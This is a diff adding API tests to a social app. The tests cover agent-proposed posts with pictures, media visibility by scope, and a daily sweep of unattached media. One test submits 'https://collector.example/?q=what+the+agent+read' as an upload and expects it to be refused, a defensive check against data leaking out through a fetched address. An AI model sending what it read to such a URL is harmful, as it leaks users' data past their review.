@@ -7,6 +7,7 @@ import { caseOf } from '@linnet/test/api/endpoint-cases';
 import type { EndpointWorld } from '@linnet/test/api/endpoint-cases';
 import { createEndpointWorld } from '@linnet/test/api/endpoint-world';
 import { startImageServer } from '@linnet/test/api/image-server';
+import { sweepUnattached } from '@linnet/media/media-sweep';
 import { orderEvents } from '@linnet/social/event/event-store';
 import { openStream, patient, settle } from '@linnet/test/api/event-listening';
 import { registerThree } from '@linnet/test/api/people';
@@ -196,6 +197,58 @@ test('the wider scope acts itself; publishing needs the scope of the call', asyn
   const narrow = await asAgent('POST /drafts/publish', ada.id, { id }, { scope: 'posts' });
   expect(narrow.body).toMatchObject({ code: 'insufficient_scope', scope: 'users' });
   expect((await ada.get('/drafts?status=proposed')).body.items).toMatchObject([{ id }]);
+});
+
+describe('D193 an agent sends pictures for its proposals', () => {
+  async function upload(media: string | Buffer): Promise<Sent> {
+    const body = new FormData();
+    body.append('media', typeof media === 'string' ? media : new Blob([new Uint8Array(media)]));
+    body.append('alt', 'A linnet');
+    return await api.call('POST /media/upload', { claims: { acct: ada.id, scope }, body });
+  }
+  const sendPicture = async () => Number((await upload(await pngImage())).body.finally.media_id);
+  const passDay = async (id: number) => {
+    await api.db.prisma.media.updateMany({ where: { id }, data: { createdAt: new Date(Date.now() - 25 * 3_600_000) } });
+    await sweepUnattached(api.db);
+    return await api.db.prisma.media.count({ where: { id } });
+  };
+  test('the person sees, publishes and rejects them; the agent learns no address before', async () => {
+    const [published, rejected, forgotten] = [await sendPicture(), await sendPicture(), await sendPicture()];
+    const first = (await asAgent('POST /post/create', ada.id, { message: 'Look', media: published })).body.id;
+    const drafted = { message: 'Look', attachments: [rejected] };
+    const second = (await asAgent('POST /drafts/create', ada.id, drafted)).body.id;
+    expect((await ada.get(`/media/show?id=${String(published)}`)).body).toMatchObject({ alt: 'A linnet', item_id: 0 });
+    const seen = async (held: string, id: number) => {
+      const claims = { acct: ada.id, scope: held };
+      const shown = await api.call(`GET /media/show?id=${String(id)}`, { claims });
+      const listed = (await api.call('GET /media', { claims })).body;
+      const exported = (await api.call('POST /account/export', { claims, headers: json, body: '{}' })).body;
+      const lists = [listed.items, exported.media].map((items: { id: number }[]) => items.some((one) => one.id === id));
+      return [shown.status, ...lists];
+    };
+    const agent = 'users:read posts:read posts:propose';
+    expect(await seen(agent, published)).toEqual([404, false, false]);
+    expect(await seen('users posts', published)).toEqual([200, true, true]);
+    expect([await passDay(published), await passDay(rejected), await passDay(forgotten)]).toEqual([1, 1, 0]);
+    await ada.post('/drafts/publish', { id: first });
+    await ada.post('/drafts/reject', { id: second });
+    const { published_id: id } = (await ada.get(`/drafts/show?id=${String(first)}`)).body;
+    expect((await ada.get(`/post/show?id=${String(id)}`)).body.items.attachments).toMatchObject([{ id: published }]);
+    expect(await seen(agent, published)).toEqual([200, true, true]);
+    expect([await passDay(published), await passDay(rejected)]).toEqual([1, 0]);
+  });
+
+  test('as files only: an address would be fetched before the person decides', async () => {
+    expect(outcome(await upload('https://collector.example/?q=what+the+agent+read'))).toEqual([
+      403,
+      'insufficient_scope',
+    ]);
+    expect(outcome(await upload(Buffer.from('no picture')))).toEqual([422, 'image-refused']);
+    const change = { id: await sendPicture(), alt: 'Something else' };
+    for (const path of ['/media/update', '/media/delete']) {
+      expect(outcome(await asAgent(`POST ${path}`, ada.id, change))).toEqual([403, 'insufficient_scope']);
+    }
+  });
 });
 
 test('proposals have their own limit and their own errors, and need an account', async () => {
